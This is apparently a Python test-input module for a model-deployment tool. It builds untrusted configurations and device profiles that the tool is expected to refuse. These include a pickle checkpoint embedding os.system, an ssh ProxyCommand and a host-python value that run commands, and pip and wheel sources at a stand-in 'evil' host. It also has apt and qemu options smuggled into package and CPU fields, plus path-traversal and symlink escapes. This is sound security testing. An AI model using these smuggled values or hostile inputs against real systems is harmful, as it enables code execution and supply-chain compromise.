"""Configurations and device profiles of a stranger: what gives trust, names code, or replaces a file."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial
from pathlib import Path

from ulsam_deploy.device.commands.sarif import sarif

from ..ulsam_deploy.handmade import make_bundle
from ..ulsam_deploy.load import test_checkpoint_hostile as known
from .bundles import copied
from .inputs import Input

#: A table and what it says; each has to be refused, and nothing may run or be replaced.
TABLES: dict[str, str] = {
    "a pickle is trusted": '[inspect]\nMODEL = "evil.pt"\ntrust-pickle = true',
    "a global is allowed": '[inspect]\nMODEL = "evil.pt"\nallow-global = ["tests.evil"]',
    "code is named": '[inspect]\nMODEL = "small.pt"\nmodel = "evil:build"\ninput = "3x8x8"',
    "code is named for an export": '[export]\nMODEL = "small.pt"\nmodel = "evil:build"\ninput = "3x8x8"',
    "native code is trusted": '[verify]\nARTIFACT = "x.plan"\nagainst = "small.pt"\ntrust-native = true',
    "a signer is named": '[verify]\nBUNDLE = "model.bundle"\nkey = "evil.pem"',
    "an identity is named": '[verify]\nBUNDLE = "model.bundle"\nidentity = "evil"\nissuer = "https://evil"',
    "a JUnit file replaces another": '[verify]\nBUNDLE = "model.bundle"\njunit = "junit.xml"',
    "a summary replaces another": '[verify]\nBUNDLE = "model.bundle"\nmarkdown = "summary.md"',
    "a SARIF file replaces another": '[verify]\nBUNDLE = "model.bundle"\nsarif = "x.sarif"',
    "an empty file is replaced": '[verify]\nBUNDLE = "model.bundle"\njunit = "mine.txt"',
    "a summary outside": '[verify]\nBUNDLE = "model.bundle"\nmarkdown = "../outside/summary.md"',
    "a summary through a link": '[verify]\nBUNDLE = "model.bundle"\nmarkdown = "link/summary.md"',
    "a bundle is replaced": '[export]\nMODEL = "small.pt"\noutput = "model.bundle"\ndry-run = true',
    "a result on a device": '[bench]\nBUNDLE = "model.bundle"\noutput = "/dev/null"',
    "a host is named": '[doctor]\nhost = ["evil"]',
    "an ssh configuration is named": '[doctor]\nhost = ["evil"]\nssh-config = "evil.ssh"',
    "a command for a host": '[doctor]\nhost = ["evil"]\nhost-python = "touch marker-of-code-that-ran #"',
    "a cluster is named": '[sweep]\nSWEEP.toml = "sweep.toml"\nscheduler = "tcp://evil:1"',
    "the cache is cleared": "[cache]\nclear = true",
    "it trusts itself": '[inspect]\nMODEL = "evil.pt"\ntrust-config = true\ntrust-pickle = true',
    "it reads another": '[inspect]\nMODEL = "evil.pt"\nconfig = "other.toml"',
    "it forces": '[verify]\nBUNDLE = "model.bundle"\nforce = true',
}

#: Profiles of a board: each is ``like`` a shipped one, and says one thing that is no name or no number.
PROFILES: dict[str, str] = {
    "an option of apt": '[x.arm.releases.bookworm]\npackages = ["-oAPT::x=y"]',
    "a package that is a file": '[x.arm.releases.bookworm]\npackages = ["./evil.deb"]',
    "a package that removes": '[x.arm.releases.bookworm]\npackages = ["libc6-"]',
    "an option of pip": '[x.arm.releases.bookworm.wheels]\nonnx = ["--index-url=https://evil"]',
    "a wheel at an address": '[x.arm.releases.bookworm.wheels]\nonnx = ["evil @ https://evil/x.whl"]',
    "a wheel without a version": '[x.arm.releases.bookworm.wheels]\nonnx = ["evil"]',
    "a Python that is an option": '[x.arm.releases.bookworm]\npython = "--evil"',
    "a tag that is an option": '[x.arm.releases.bookworm]\ntags = ["--evil"]',
    "an option of qemu": '[x.arm]\ncpu = "max -L /evil"',
    "a processor that is an option": '[x.arm]\ncpu = "-L"',
    "a model of two lines": '[x.arm]\nmodel = "a\\nb"',
    "a billion cores": "[x.arm]\ncores = 1000000000",
    "a budget of nan": "[x.budget]\nsize_mb = nan",
    "a budget of infinity": "[x.budget]\nsize_mb = inf",
    "a budget of instructions of nan": "[x.budget]\ninstructions_m = nan",
    "a negative budget": "[x.budget]\nsize_mb = -1.0",
    "a title of escapes": 'title = "\\u001b[2J"',
    "like itself": 'like = "x"',
}
LIKE = '[x]\ntitle = "x"\nlike = "rpi4"\n'


def inputs(stock: Path) -> Iterator[Input]:
    """All of them."""
    bundle = make_bundle(stock / "trust.bundle", targets=("onnx",), width=16, batch=1).root
    for name, text in TABLES.items():
        yield Input("configuration", name, partial(_config, bundle, text), frozenset({2, 6}))
    for name, text in PROFILES.items():
        yield Input("device profile", name, partial(_profile, profile(text)), frozenset({2}), environment=_OWN)
    for name, value in {"nan": "nan", "inf": "inf", "-1": "-1.0"}.items():
        yield Input("budget", f"compare: {name}", partial(_budget, f"[[budget]]\nmax_p90_ms = {value}"), _NUMBERS)
    for key in ("drop", "error", "retention"):
        for value in ("nan", "inf", "-1.0", "1e308", "true"):
            text = f"[budget]\n{key} = {value}\n"
            yield Input("budget", f"export: {key} = {value}", partial(_auto, text), frozenset({2}))


_OWN = {"ULSAM_DEPLOY_DEVICES": "own.toml"}
_NUMBERS = frozenset({2, 6})


def profile(text: str) -> str:
    """A whole profile that says ``text``."""
    whole = '[x]\nlike = "rpi4"\n' if text.startswith("title") else "[x]\n" if text.startswith("like") else LIKE
    return f"{whole}{text}\n"


def _config(bundle: Path, text: str, folder: Path) -> list[str]:
    copied(bundle, folder)
    known_weights(folder / "small.pt")
    (folder / "evil.pt").write_bytes(known.with_pickle(known.PROGRAMS["os.system"]))
    (folder / "evil.py").write_text("open('marker-of-code-that-ran', 'w')\nbuild = None\n")
    (folder / "evil.pem").write_text("")
    (folder / "evil.ssh").write_text("Host *\n ProxyCommand touch marker-of-code-that-ran\n")
    (folder / "junit.xml").write_text('<testsuites name="ulsam-deploy"></testsuites>\n')
    (folder / "summary.md").write_text("<!-- written by ulsam-deploy -->\nmine\n")
    (folder / "mine.txt").write_text("")
    (folder / "x.sarif").write_bytes(sarif(folder, []))
    (folder / "sweep.toml").write_text('checkpoints = ["small.pt"]\ntargets = ["onnx"]\n')
    (folder / "link").symlink_to(folder.parent / "outside", target_is_directory=True)
    (folder / "words.toml").write_text(text + "\n")
    return [text[1 : text.index("]")], "--config", "words.toml"]


def known_weights(path: Path) -> None:
    """A checkpoint of nothing in particular."""
    import torch

    path.write_bytes(known.saved({"weight": torch.zeros(2, 2)}))


def _profile(text: str, folder: Path) -> list[str]:
    (folder / "own.toml").write_text(text)
    known_weights(folder / "small.pt")
    return ["export", "small.pt", "--target", "onnx", "--device", "x", "--dry-run"]


def _budget(text: str, folder: Path) -> list[str]:
    (folder / "budget.toml").write_text(text + "\n")
    (folder / "result.json").write_text("{}")
    return ["compare", "result.json", "result.json", "--budget", "budget.toml"]


def _auto(text: str, folder: Path) -> list[str]:
    (folder / "budget.toml").write_text(text)
    known_weights(folder / "small.pt")
    words = ["export", "small.pt", "--target", "onnx", "--precision", "auto", "--budget", "budget.toml"]
    return [*words, "-o", "../out/b", "--no-cache"]
